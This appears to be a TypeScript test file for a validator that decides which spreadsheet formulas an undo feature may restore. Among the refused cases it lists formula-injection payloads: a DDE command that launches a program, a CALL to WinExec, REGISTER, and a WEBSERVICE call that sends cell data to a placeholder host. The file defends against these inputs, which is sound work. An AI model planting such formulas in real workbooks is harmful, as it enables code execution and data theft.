/** Which snapshot formulas undo may write back (src/plan/formula-check.ts). */
import { isRestorableFormula, unrestorableFormulas } from "../../src/plan/formula-check";

describe("isRestorableFormula", () => {
  test.each([
    "=SUM(C11:H11)",
    "=C5+D5*2-E5/3^2&\"đ\"",
    '=IF(I2>=90,"Xuất sắc",IF(I2>=80,"Tốt","Khá"))',
    "=ROUND(AVERAGE($C$5:$C$20),2)",
    "=_xlfn.RANK.EQ(I5,$I$5:$I$20,0)",
    "=RANK(I5,I:I)",
    "=SUM(3:5)",
    "=IFERROR(VLOOKUP(B5,'Phụ lục 1'!$B$8:$K$25,9,FALSE),\"\")",
    "=COUNTIFS(Data!A:A,\"x\",Data!B:B,\">1\")",
    "=INDEX(B:B,MATCH(MAX(I:I),I:I,0))",
    '=TEXT(VALUE(TRIM(" 1,5 ")),"0.00")',
    "=1.5E+3+.5-#N/A",
    '="=WEBSERVICE(""x"")"',
    "=TRUE",
  ])("allows %s", (f) => {
    expect(isRestorableFormula(f)).toBe(true);
  });

  test.each([
    ['=WEBSERVICE("http://x/?"&A1)', "a web request"],
    ['=HYPERLINK("http://x","bấm")', "a link"],
    ["=FILTERXML(WEBSERVICE(A1),\"//a\")", "a web request nested"],
    ["=[other.xlsx]Sheet1!A1", "another workbook"],
    ["='http://x/[a.xlsx]S'!A1", "a workbook on the web"],
    ["='C:\\x\\[a.xlsx]S'!A1", "a file path"],
    ["=cmd|' /C calc'!A0", "DDE"],
    ['=CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"],
    ['=REGISTER("x")', "REGISTER"],
    ['=INDIRECT("[a.xlsx]S!A1")', "INDIRECT"],
    ["=MyName*2", "a name it does not know"],
    ["=FOO(A1)", "a function it does not know"],
    ["={1,2}", "an array constant"],
    ["=Table1[Col]", "a structured reference"],
    ['=SUM(A1', "not a formula (unclosed string)"],
    ['="abc', "an unclosed string"],
    ["=A1!B2!C3", "two sheet names"],
    ["SUM(A1)", "no ="],
    [`=${"1+".repeat(5000)}1`, "longer than Excel allows"],
  ])("refuses %s (%s)", (f) => {
    expect(isRestorableFormula(f)).toBe(false);
  });

  test("unrestorableFormulas names the snapshots undo would refuse, not values or safe formulas", () => {
    const snap = (address: string, value: string | number | null) => ({ address, value, numberFormat: null, underline: false });
    const previous = [snap("A1", 5), snap("A2", "=SUM(B2:C2)"), snap("A3", '=WEBSERVICE("x")'), snap("A4", null), snap("A5", "=MyName")];
    expect(unrestorableFormulas(previous).map((s) => s.address)).toEqual(["A3", "A5"]);
  });
});
